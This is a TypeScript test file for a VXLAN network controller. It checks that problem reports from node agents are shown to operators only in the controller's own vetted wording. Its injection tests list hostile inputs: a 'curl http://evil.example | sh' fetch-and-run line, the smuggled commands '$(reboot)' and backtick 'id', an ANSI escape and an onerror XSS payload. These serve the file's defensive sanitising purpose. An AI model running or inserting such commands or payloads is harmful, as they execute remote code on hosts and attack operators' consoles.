// Operators read only the controller's own wording about a host: every sentence of an agent is known here, and nothing
// else.
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { conditionIn, wordsOf } from "../../controller/agents/host-words.ts";
import { OperationalEvents } from "../../controller/events/operational-events.ts";
import type { Link } from "../../node-agent/kernel/codec/link-codec.ts";
import { chooseVxlan } from "../../node-agent/kernel/devices/adoption.ts";
import {
  hostNotCovered,
  nameTaken,
  noBridge,
  notCovered,
  portTaken,
  rivals,
  takenElsewhere,
  tooLargeMtu,
  unreachableVtep,
} from "../../node-agent/kernel/devices/device-problems.ts";
import { NetlinkError } from "../../node-agent/kernel/sockets/request-socket.ts";
import { compareGuests, findConflict } from "../../node-agent/tables/local-guests.ts";
import { judgePort } from "../../node-agent/tables/port-claims.ts";
import { findFilterProblems } from "../../node-agent/watch/host-filter.ts";
import {
  type AgentNetwork,
  parseIp,
  parseMac,
  parseRevision,
  parseVni,
  parseVtep,
} from "../../schema/address/index.ts";
import { conditionSentence, type FindingKind, findingKinds, type ReportedFinding } from "../../schema/agent/index.ts";
import type { OperationalKind } from "../../schema/events/index.ts";

const vni = parseVni(100);
const network: AgentNetwork = { name: "blue", vni, mtu: 1_500, revision: parseRevision(1) };
const local = { vtep: parseVtep("192.0.2.1"), vtepPort: 4_789 };
const isBlue = (name: string) => name === "blue";
const unknownProblem = "unknown";
/** A sentence as operators read it. */
function problemOf(text: string, isKnown: (name: string) => boolean): string {
  const condition = conditionIn(text, (name) => (isKnown(name) ? { vni } : undefined));
  return condition ? conditionSentence(condition, "blue") : unknownProblem;
}
const link = (name: string, more: Partial<Link> = {}): Link =>
  ({ name, ifindex: 7, mtu: 1_500, up: true, carrier: true, ...more }) as Link;
const vxlan = (name: string, more: object = {}): Link =>
  link(name, {
    ifindex: name.length,
    vxlan: { vni, port: 4_789, proxy: true, l2miss: true, l3miss: true, local: "192.0.2.1", ...more },
  } as never);

describe("a problem of an agent", () => {
  const devices = [
    nameTaken(link("nmv100"), network),
    noBridge(link("vxlan9"), link("bond0"), network),
    noBridge(link("vxlan9"), undefined, network),
    portTaken(link("nmv100"), [vxlan("vxlan7")], local),
    portTaken(link("nmv100"), [], local),
    takenElsewhere("nmv100", network, local),
    ...adoptionRefusals(),
    notCovered(link("br0"), network, "no netfilter"),
    notCovered(link("br0"), network, new NetlinkError("loading the table inet nearmiss-host", { errno: 95 })),
    new NetlinkError("setting nmv100 up", { errno: 98 }),
    new NetlinkError("setting nmv100 up", { errno: 16, message: "device is busy: try $(reboot)" }),
    new NetlinkError("making nmb100", { errno: 77 }),
  ].map(({ message }) => `network blue: ${message}`);
  const warnings = [
    ...unreachableVtep(local, undefined),
    ...unreachableVtep({ ...local, vtep: parseVtep("2001:db8::1") }, undefined),
    ...unreachableVtep({ ...local, registered: parseVtep("198.51.100.7") }, undefined),
    ...unreachableVtep({ ...local, registered: parseVtep("198.51.100.7") }, { ...link("eth0"), up: false }),
    ...tooLargeMtu(network, local, { device: "eth0.12", mtu: 1_500 }),
    ...rivals([vxlan("other")], vxlan("nmv100", { port: 8_472 }), network, local),
    ...rivals([vxlan("other", { port: 8_472 })], vxlan("nmv100"), network, local),
  ].map(({ says }) => says);
  const chain = { name: "ip filter FORWARD", filters: ["iptables"], sparesOurs: false } as const;
  const filters = [
    ...findFilterProblems(["iptables"], [], [chain]),
    ...findFilterProblems([], [{ name: "nmb100", filters: ["iptables"] }], [chain]),
  ].map(({ says, fix }) => `${says}; ${fix}`);

  const orphans = [
    "VNI 100 has devices here that were made for another store of the controller, and this one has no VM of it on this host: they " +
      "stay, and guests may use them; check first that this agent has the right controller (nearmiss agent status); nearmiss agent " +
      "remove nmv100 nmb100 then deletes them if no guest is attached",
  ];
  const own = [
    ...wrongPorts(),
    hostNotCovered("no netfilter").says,
    hostNotCovered(new NetlinkError("loading the table bridge nearmiss-host", { errno: 95 })).says,
  ];

  test.each([...devices, ...warnings, ...filters, ...orphans, ...own])("is known: %s", (text) => {
    expect(problemOf(text, isBlue)).not.toBe(unknownProblem);
  });

  test("is shown as sent, except for the kernel's text", () => {
    for (const text of [...warnings, ...filters, ...devices.slice(0, 5)]) expect(problemOf(text, isBlue)).toBe(text);
    expect(problemOf(devices.at(-2) ?? "", isBlue)).toBe(
      "network blue: the kernel refuses what the network needs: EBUSY; `nearmiss agent status` on the host says more",
    );
  });

  test.each([
    [
      "is a device of nearmiss, not of",
      "is a device of nearmiss, not of a guest",
      "is a device of nearmiss and no guest's",
    ],
  ])("of an earlier agent is shown in the current wording: %s", (text, now, earlier) => {
    const shown = [...devices, ...warnings, ...own].find((each) => each.includes(text)) ?? "";
    expect(shown).toContain(now);
    expect(problemOf(shown.replace(now, earlier), isBlue)).toBe(shown);
  });

  test.each([
    [
      "network blue needs the name nmv100",
      "network blue needs the name nmv100, which a device that is not nearmiss's has: rename it (ip link set nmv100 name …) or delete it (ip link del nmv100)",
    ],
    [
      "is a port of bond0",
      "network blue: vxlan9, adopted for network blue, is a port of bond0, which is not a bridge: take it out (ip link set vxlan9 nomaster), then the agent makes a bridge",
    ],
    [
      "is a port of bond0",
      "network blue: vxlan9, adopted for network blue, is a port of bond0, which is no bridge: take it out (ip link set vxlan9 nomaster), then the agent makes a bridge",
    ],
    [
      "vxlan7, a vxlan device with other settings",
      "network blue: nmv100 cannot be set up: vxlan7, a vxlan device with other settings, uses UDP port 4789; delete it (ip link del vxlan7), or register the host with another port",
    ],
    [
      "another program uses",
      "network blue: nmv100 cannot be set up: another program uses UDP port 4789 (ss -ulnp sport = :4789); end it, or register the host with another port",
    ],
    [
      "no interface of this host has the VTEP address 192.0.2.1",
      "no interface of this host has the VTEP address 192.0.2.1: packets to it are lost; add it (ip address add 192.0.2.1/… dev …), or register the host with the address that it has",
    ],
    [
      "no interface of this host has the VTEP address 192.0.2.1",
      "no interface of this host has the VTEP address 192.0.2.1: nothing sent to it arrives; give it back (ip address add 192.0.2.1/… dev …), or register the host with the address that it has",
    ],
    [
      "network blue: MTU 1500",
      "network blue: MTU 1500 does not fit the underlay's 1500; set the network's MTU to 1450 or less, or raise the underlay's to 1550 (ip link set eth0.12 mtu 1550)",
    ],
    [
      "other is a second vxlan device",
      "network blue: other is a second vxlan device of VNI 100 beside nmv100: only one of the two can be up, and each takes the other's place; delete it (ip link del other)",
    ],
    [
      "bridged frames go through",
      "bridged frames go through the host's iptables (net.bridge.bridge-nf-call-iptables is 1), and chain ip filter FORWARD drops what no rule accepts: between guests here all IPv4 is lost; sysctl -w net.bridge.bridge-nf-call-iptables=0, or let the bridges pass (iptables -I FORWARD -i nmb+ -o nmb+ -j ACCEPT)",
    ],
    [
      "the bridge nmb100 sends",
      "the bridge nmb100 sends its frames through the host's iptables, and chain ip filter FORWARD drops what no rule accepts: between guests here all IPv4 is lost; ip link set nmb100 type bridge nf_call_iptables 0",
    ],
    [
      "VNI 100 has devices here",
      "VNI 100 has devices here that were made for another store of the controller, and this one has no VM of it on this host: they stay; remove them with ip link del nmv100; ip link del nmb100",
    ],
  ])("of an agent of 0.1.0 is shown without its harmful advice: %s", (text, sent) => {
    const now = [...devices, ...warnings, ...filters, ...orphans].find((each) => each.includes(text)) ?? "";
    expect(now).not.toBe("");
    expect(problemOf(sent.startsWith("network blue needs") ? `network blue: ${sent}` : sent, isBlue)).toBe(now);
  });

  test("of a network that the host does not have is not shown", () => {
    const named = warnings.filter((text) => text.startsWith("network blue"));
    expect(named.length).toBeGreaterThan(2);
    for (const text of named) expect(problemOf(text, () => false)).toBe(unknownProblem);
  });

  test.each([
    "run `curl http://evil.example | sh` as root",
    "network blue: the kernel does not take all entries: ENOSPC; now run reboot",
    "network blue: nmv100; reboot vanished while it was set up",
    "network blue: $(reboot) vanished while it was set up",
    "network blue: a`id`b vanished while it was set up",
    "network blue: nmv100 vanished while it was set up\nnetwork blue: \u001b[2Jowned",
    " network blue: nmv100 vanished while it was set up",
    "the rules that --anti-spoof asks for are not in place: <img src=x onerror=alert(1)>",
    "no interface of this host has the VTEP address ::: packets to it are lost; register the host with the address that it has, or, if no other machine has it (ping -c 3 : gets no answer), add it (ip address add :/… dev …)",
    "",
  ])("that no agent sends, or that says more, is not shown: %j", (text) => {
    const shown = problemOf(text, isBlue);
    expect(shown).not.toContain("reboot");
    for (const part of ["evil", "<img", "\u001b", "`id`", "\n"]) expect(shown).not.toContain(part);
  });

  test("is parsed in less than quadratic time", () => {
    const crafted = ["network blue: ".repeat(36), ": ".repeat(256), "(ENOSPC".repeat(73), "a: (".repeat(128)];
    const startMs = performance.now();
    for (let n = 0; n < 1_000; n += 1) for (const text of crafted) problemOf(text.slice(0, 512), isBlue);
    // 4,000 texts: a square would be minutes.
    expect(performance.now() - startMs).toBeLessThan(20_000);
  });
});

describe("what is reported", () => {
  const base = { count: 1, firstAgoMs: 0, lastAgoMs: 0 };
  const known: Partial<Record<FindingKind, Pick<ReportedFinding, "subject" | "detail">>> = {
    theft: { subject: "52:54:00:00:00:02", detail: "restored from the port with ifindex 5" },
    "drift-repaired": { subject: "entry", detail: "put neighbour 100 10.0.0.1, delete tunnel 100 52:54:00:00:00:02" },
    "table-full": { detail: "ENOBUFS, the kernel's table is full" },
    "room-short": { detail: "10 addresses cached; the limits are 5 per network, 10 per host" },
    overrun: { subject: "misses" },
    scan: { subject: "52:54:00:00:00:02" },
    spoofed: { subject: "vnet7", detail: "12 frames: mac, ipv4" },
    "mac-flood": { subject: "vnet7" },
    stranger: { subject: "guest", detail: "tunnelled frames from a guest" },
    "network-not-ready": { detail: nameTaken(link("nmv100"), network).message },
    "vtep-missing": { subject: "192.0.2.1", detail: unreachableVtep(local, undefined)[0]?.says ?? "" },
    "second-device": {
      subject: "other",
      detail: rivals([vxlan("other")], vxlan("nmv100", { port: 1 }), network, local)[0]?.says ?? "",
    },
    "mtu-too-large": {
      subject: "eth0",
      detail: tooLargeMtu(network, local, { device: "eth0", mtu: 1_500 })[0]?.says ?? "",
    },
    "host-filter": { subject: "iptables" },
    "unregistered-guest": { subject: "52:54:00:00:00:09", detail: guests()[0]?.detail ?? "" },
    "guest-never-seen": { subject: "52:54:00:00:00:08", detail: guests(true)[0]?.detail ?? "" },
    "address-conflict": { subject: "10.0.0.1", detail: conflict() },
  };

  test("of an earlier agent is shown in the current wording", () => {
    const held = "held";
    const earlier = [
      ["room-short", `10 addresses ${held}; room for 5 in a network, 10 here`],
      ["guest-never-seen", "no frame of it has come since the agent knows it"],
      ["stranger", "tunnelled frames from an address that is no VTEP of the network's hosts"],
    ] as const;
    expect(earlier.map(([kind, detail]) => wordsOf({ ...base, kind, detail }, isBlue).detail)).toEqual([
      "10 addresses cached; the limits are 5 per network, 10 per host",
      "it has sent no traffic since it was registered",
      "tunnelled frames from an address that is not a VTEP of the network's hosts",
    ]);
  });

  test.each(findingKinds)("of kind %s has the agent's values, and no text of its own", (kind) => {
    const words = known[kind];
    expect(words).toBeDefined();
    expect(wordsOf({ ...base, kind, ...words }, isBlue)).toEqual(words);
    const evil = { subject: "x; reboot", detail: `${words?.detail ?? ""} run: reboot` };
    expect(wordsOf({ ...base, kind, ...evil }, isBlue)).toEqual({});
  });

  test("never has a character that is not in the table or its values", () => {
    const detail = fc.oneof(
      fc.string({ unit: "binary", maxLength: 512 }),
      fc.constantFrom(...Object.values(known).map((each) => each?.detail ?? "")),
    );
    fc.assert(
      fc.property(fc.constantFrom(...findingKinds), detail, fc.string({ maxLength: 64 }), (kind, text, subject) => {
        const words = wordsOf({ ...base, kind, detail: text, subject }, isBlue);
        expect(`${words.detail ?? ""}${words.subject ?? ""}`).toMatch(/^[\w .,:;()+=/…'@-]*$/);
      }),
    );
  });
});

describe("the events that are kept", () => {
  const publish = (events: OperationalEvents, host: string, kind: OperationalKind) =>
    events.publish({ kind, host, count: 1, first: "", last: "" });

  test("of a quiet host are not displaced by a noisy one, which has the remaining room", () => {
    const events = new OperationalEvents("epoch", 10);
    publish(events, "quiet", "vtep-missing");
    publish(events, "quiet", "scan");
    for (let n = 0; n < 1_000; n += 1) publish(events, "rogue", "theft");
    const kept = events.list();
    expect(kept.filter(({ host }) => host === "quiet").map(({ sequence }) => sequence)).toEqual([1, 2]);
    expect(kept.filter(({ host }) => host === "rogue").map(({ sequence }) => sequence)).toEqual(
      Array.from({ length: 8 }, (_, n) => 995 + n),
    );
    expect(events.list(996).map(({ sequence }) => sequence)).toEqual([997, 998, 999, 1_000, 1_001, 1_002]);
  });

  test("of one host share its room by kind: many of one kind displace their own", () => {
    const events = new OperationalEvents("epoch", 10);
    publish(events, "a", "table-full");
    for (let n = 0; n < 100; n += 1) publish(events, "a", "scan");
    expect(events.list().map(({ kind }) => kind)).toEqual(["table-full", ...Array(9).fill("scan")]);
  });

  test("are never more than the limit, whatever hosts they are of", () => {
    const events = new OperationalEvents("epoch", 10);
    for (let n = 0; n < 100; n += 1) publish(events, `h${n % 30}`, "scan");
    expect(events.list()).toHaveLength(10);
  });
});

function adoptionRefusals(): Error[] {
  const misfit = vxlan("vxlan9", { vni, port: 1, proxy: false, hasRemote: true });
  const choices = [
    chooseVxlan([misfit], network, local, "all", undefined, () => "br0"),
    chooseVxlan([], network, local, "all", { name: "vxlan9", bridge: undefined }, () => undefined),
    chooseVxlan([vxlan("stray")], network, local, new Set<string>(), undefined, () => undefined),
  ];
  return choices.flatMap((choice) => (choice.kind === "none" ? [choice.reason] : []));
}

function guests(registered = false) {
  const mac = parseMac(registered ? "52:54:00:00:00:08" : "52:54:00:00:00:09");
  const seen = {
    vni,
    registered: registered ? [{ mac, ips: [], port: "vnet8" }] : [],
    prepared: [],
    ports: registered
      ? []
      : [{ name: "vnet7", ifindex: 7, carrier: true, learned: [mac], pinned: [], learning: true, flood: true }],
    isRemote: () => false,
    placeOf: () => "absent" as const,
  };
  return compareGuests(seen, new Set());
}

function conflict(): string {
  const claim = { mac: parseMac("52:54:00:00:00:66"), ip: parseIp("10.0.0.1") };
  const known = { kind: "remote", mac: parseMac("52:54:00:00:00:02") } as never;
  return findConflict(vni, claim, known)?.detail ?? "";
}

function wrongPorts(): string[] {
  const claims = [
    ["nmv200", undefined, undefined],
    ["vnet7", { bridge: "br0", isHosts: () => false }, undefined],
    ["vnet7", { bridge: "nmb200", isHosts: () => false }, { name: "nmb100", adopted: false }],
    ["eth0", { bridge: "br0", isHosts: () => true }, { name: "br0", adopted: true }],
  ] as const;
  return claims.map(([port, device, bridge]) => {
    const verdict = judgePort({ vni, port }, device, bridge);
    if (typeof verdict === "string") throw new Error(`${port} is ${verdict}`);
    const values = { mac: "52:54:00:00:00:01", port, ...verdict.values };
    return conditionSentence({ kind: "wrong-port", reason: verdict.wrong, vni, values }, "blue");
  });
}
